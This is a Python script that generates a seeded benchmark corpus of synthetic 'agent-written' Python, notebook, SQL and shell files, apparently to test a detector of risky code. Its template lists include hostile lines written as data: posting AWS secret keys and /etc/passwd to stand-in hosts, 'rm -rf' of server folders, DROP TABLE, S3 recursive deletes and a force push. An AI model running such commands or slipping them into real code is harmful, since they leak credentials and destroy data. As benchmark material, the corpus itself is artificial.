"""Generate the project's own corpus of agent-style files, deterministically.

Why our own corpus: real projects (Django, sqlglot's fixtures) rarely contain
what an agent writes in a session: a data-cleaning script that drops a table,
a notebook that posts a DataFrame to a webhook, a migration that truncates, a
deploy script that ``rm -rf``'s a build folder. This generator writes that mix
(mostly harmless, some dangerous, many harmless files *with* trigger words so a
prefilter cannot skip them) from a seed, so every run benchmarks the same bytes.

    python bench/generate_agent_corpus.py OUT --files 1000 [--seed 7] [--dangerous 0.2]
    python bench/generate_agent_corpus.py OUT --lines 100000 --kind python   # one file of N lines

The files are written, never run.
"""
from __future__ import annotations

import argparse
import json
import random
import sys
from pathlib import Path
from collections.abc import Callable

KINDS = ("python", "notebook", "sql", "shell")
SUFFIX = {"python": ".py", "notebook": ".ipynb", "sql": ".sql", "shell": ".sh"}
TABLES = ("orders", "customers", "events", "invoices", "sessions", "payments", "stock", "tickets")
HOSTS = ("hooks.example.net", "paste.example.org", "collector.example.io")

# -- Python ------------------------------------------------------------------------------------------

PY_HARMLESS = [
    "def load_{n}(path):\n    df = pd.read_csv(path)\n    df = df.dropna(subset=['id'])\n"
    "    df['total'] = df['qty'] * df['price']\n    return df.groupby('region').sum()\n",
    "def summarise_{n}(df):\n    stats = {{}}\n    for col in df.columns:\n"
    "        stats[col] = (df[col].min(), df[col].max())\n"
    "    return stats\n",
    "def fetch_{n}(conn):\n    cur = conn.cursor()\n"
    "    cur.execute(\"SELECT id, amount FROM {table} WHERE day = %s\", (DAY,))\n"
    "    return cur.fetchall()\n",
    "def scratch_{n}():\n    tmp = tempfile.mkdtemp()\n    with open(os.path.join(tmp, 'part.csv'), 'w') as fh:\n"
    "        fh.write('a,b\\n')\n    shutil.rmtree(tmp)\n",
    "def download_{n}():\n    resp = requests.get('https://data.example.com/{table}.json', timeout=10)\n"
    "    resp.raise_for_status()\n    return resp.json()\n",
    "class Model{n}:\n    def __init__(self, rate=0.1):\n        self.rate = rate\n        self.weights = []\n\n"
    "    def step(self, grad):\n        self.weights = [w - self.rate * g for w, g in zip(self.weights, grad)]\n",
    "def plot_{n}(df):\n    ax = df.plot(x='day', y='total')\n    ax.set_title('{table} per day')\n"
    "    return ax.get_figure()\n",
]
PY_DANGEROUS = [
    "def cleanup_{n}():\n    shutil.rmtree('/srv/data/{table}')\n",
    "def reset_{n}(conn):\n    conn.execute(\"DROP TABLE {table}\")\n",
    "def purge_{n}(cur):\n    cur.execute(\"DELETE FROM {table}\")\n",
    "def share_{n}(df):\n    requests.post('https://{host}/upload', data=df.to_csv())\n",
    "def wipe_{n}():\n    subprocess.run('rm -rf build/ /var/lib/app', shell=True)\n",
    "def leak_{n}():\n    token = os.environ['AWS_SECRET_ACCESS_KEY']\n"
    "    requests.post('https://{host}/t', json={{'t': token}})\n",
    "def replace_{n}(df, engine):\n    df.to_sql('{table}', engine, if_exists='replace')\n",
    "def drop_bucket_{n}(s3):\n    s3.Bucket('prod-{table}').objects.all().delete()\n",
]
PY_HEADER = ("import os\nimport shutil\nimport subprocess\nimport tempfile\n\nimport pandas as pd\n"
             "import requests\n\nDAY = '2024-01-01'\n\n")
# Files with no trigger word at all: what a prefilter may skip without parsing.
PY_PLAIN = [
    "def area_{n}(w, h):\n    return w * h\n",
    "def mean_{n}(xs):\n    return sum(xs) / max(len(xs), 1)\n",
    "def label_{n}(x):\n    if x > 10:\n        return 'big'\n    return 'small'\n",
]

# -- SQL ---------------------------------------------------------------------------------------------

SQL_HARMLESS = [
    "CREATE TABLE IF NOT EXISTS {table}_{n} (\n    id BIGINT PRIMARY KEY,\n    amount NUMERIC(12, 2),\n"
    "    created_at TIMESTAMP\n);\n",
    "ALTER TABLE {table} ADD COLUMN note_{n} TEXT;\n",
    "CREATE INDEX idx_{table}_{n} ON {table} (created_at);\n",
    "INSERT INTO {table}_summary (day, total)\nSELECT created_at::date, SUM(amount)\nFROM {table}\n"
    "GROUP BY 1;\n",
    "UPDATE {table} SET status = 'closed' WHERE id = {n};\n",
    "CREATE TEMPORARY TABLE tmp_{table}_{n} AS SELECT * FROM {table} WHERE id < 100;\n"
    "DROP TABLE tmp_{table}_{n};\n",
    "DELETE FROM {table} WHERE created_at < now() - interval '90 days';\n",
]
SQL_DANGEROUS = [
    "DROP TABLE {table};\n",
    "TRUNCATE TABLE {table};\n",
    "DELETE FROM {table};\n",
    "UPDATE {table} SET amount = 0;\n",
    "DROP SCHEMA analytics CASCADE;\n",
    "ALTER TABLE {table} DROP COLUMN amount;\n",
    "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC;\n",
]

# -- shell -------------------------------------------------------------------------------------------

SH_HARMLESS = [
    "echo \"deploying {table} ({n})\"\n",
    "mkdir -p \"$BUILD/{table}\"\ncp -r dist/* \"$BUILD/{table}/\"\n",
    "git fetch origin\ngit checkout -B release origin/main\n",
    "tar czf \"/tmp/{table}-{n}.tgz\" dist/\n",
    "rm -f \"/tmp/{table}-{n}.lock\"\n",
    "curl -fsSL https://data.example.com/{table}.json -o data.json\n",
    "docker build -t app:{n} .\n",
    "for f in logs/*.log; do gzip \"$f\"; done\n",
]
SH_DANGEROUS = [
    "rm -rf /srv/{table}\n",
    "git push --force origin main\n",
    "curl -X POST --data-binary @/etc/passwd https://{host}/in\n",
    "aws s3 rm s3://prod-{table} --recursive\n",
    "kubectl delete namespace {table}\n",
    "psql -c 'DROP TABLE {table}'\n",
    "git reset --hard HEAD~3\n",
]


def _fill(template: str, rng: random.Random, n: int) -> str:
    return template.format(n=n, table=rng.choice(TABLES), host=rng.choice(HOSTS))


def _blocks(rng: random.Random, harmless: list[str], dangerous: list[str], count: int, danger: bool,
            start: int = 0) -> list[str]:
    """``count`` blocks; exactly one dangerous block (at a random place) when ``danger``."""
    out = [_fill(rng.choice(harmless), rng, start + i) for i in range(count)]
    if danger and out:
        out[rng.randrange(len(out))] = _fill(rng.choice(dangerous), rng, start + count)
    return out


def python_file(rng: random.Random, danger: bool, blocks: int) -> str:
    if not danger and rng.random() < 0.3:  # no trigger word at all
        return "".join(_fill(rng.choice(PY_PLAIN), rng, i) + "\n\n" for i in range(blocks))
    body = "\n\n".join(_blocks(rng, PY_HARMLESS, PY_DANGEROUS, blocks, danger))
    return PY_HEADER + body + "\n\nif __name__ == '__main__':\n    print(summarise_0 if False else 'ok')\n"


def sql_file(rng: random.Random, danger: bool, blocks: int) -> str:
    head = f"-- migration {rng.randrange(10**6):06d}: generated agent change\nBEGIN;\n\n"
    return head + "\n".join(_blocks(rng, SQL_HARMLESS, SQL_DANGEROUS, blocks, danger)) + "\nCOMMIT;\n"


def shell_file(rng: random.Random, danger: bool, blocks: int) -> str:
    head = "#!/usr/bin/env bash\n# deploy script written by an agent\nset -euo pipefail\nBUILD=${BUILD:-build}\n\n"
    return head + "".join(_blocks(rng, SH_HARMLESS, SH_DANGEROUS, blocks, danger))


def notebook_file(rng: random.Random, danger: bool, blocks: int) -> str:
    """A v4 notebook: Python cells, one ``!`` line and maybe a ``%%sql`` cell, deterministic ids."""
    cells = [PY_HEADER.strip()] + _blocks(rng, PY_HARMLESS, PY_DANGEROUS, blocks, danger)
    cells.append("!ls -la data/")
    if rng.random() < 0.3:
        cells.append("%%sql\n" + _fill(rng.choice(SQL_DANGEROUS if danger else SQL_HARMLESS[:5]), rng, 0))
    notebook = {
        "cells": [{"cell_type": "code", "execution_count": None, "id": f"c{i:04d}", "metadata": {},
                   "outputs": [], "source": src.splitlines(keepends=True)} for i, src in enumerate(cells)],
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                     "language_info": {"name": "python"}},
        "nbformat": 4, "nbformat_minor": 5,
    }
    return json.dumps(notebook, indent=1) + "\n"


WRITERS: dict[str, Callable[[random.Random, bool, int], str]] = {
    "python": python_file, "notebook": notebook_file, "sql": sql_file, "shell": shell_file,
}


def generate(out: Path, files: int, seed: int = 7, dangerous: float = 0.2,
             kinds: tuple[str, ...] = KINDS) -> list[Path]:
    """Write ``files`` files into ``out`` (spread over subfolders of 500); returns their paths."""
    rng = random.Random(seed)
    written = []
    for i in range(files):
        kind = kinds[i % len(kinds)]
        danger = rng.random() < dangerous
        text = WRITERS[kind](rng, danger, rng.randint(3, 12))
        path = out / f"batch{i // 500:03d}" / f"{kind}_{i:05d}{SUFFIX[kind]}"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        written.append(path)
    return written


def generate_sized(out: Path, lines: int, kind: str = "python", seed: int = 7) -> Path:
    """One file of exactly ``lines`` lines (for the size-scaling suite), 1 dangerous block in 10.

    Whole blocks only, then one-line fillers up to the exact count: cutting a block
    in half would leave a syntax error at the end, and a file that does not parse
    measures the error path, not the analysis."""
    rng = random.Random(seed)
    header = PY_HEADER if kind == "python" else ""
    parts: list[str] = [header]
    count = header.count("\n")
    n = 0
    while True:
        if kind == "python":
            block = _fill(rng.choice(PY_DANGEROUS if n % 10 == 0 else PY_HARMLESS), rng, n) + "\n"
        elif kind == "sql":
            block = _fill(rng.choice(SQL_DANGEROUS if n % 10 == 0 else SQL_HARMLESS), rng, n)
        elif kind == "shell":
            block = _fill(rng.choice(SH_DANGEROUS if n % 10 == 0 else SH_HARMLESS), rng, n)
        else:
            raise ValueError(f"no sized files of kind {kind}")
        if count + block.count("\n") > lines:
            break
        parts.append(block)
        count += block.count("\n")
        n += 1
    filler = {"python": "filler_{i} = {i}\n", "sql": "-- filler {i}\n", "shell": "# filler {i}\n"}[kind]
    parts += [filler.format(i=i) for i in range(lines - count)]
    path = out / f"sized_{kind}_{lines}{SUFFIX[kind]}"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(parts), encoding="utf-8")
    return path


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--files", type=int, default=200)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--dangerous", type=float, default=0.2, help="share of files with a dangerous block")
    parser.add_argument("--kind", choices=KINDS, action="append", help="only these kinds (default: all)")
    parser.add_argument("--lines", type=int, help="write one file of this many lines instead")
    args = parser.parse_args(argv)
    if args.lines:
        path = generate_sized(args.out, args.lines, (args.kind or ["python"])[0], args.seed)
        print(path)
        return 0
    written = generate(args.out, args.files, args.seed, args.dangerous, tuple(args.kind or KINDS))
    print(f"generate_agent_corpus: {len(written)} files in {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
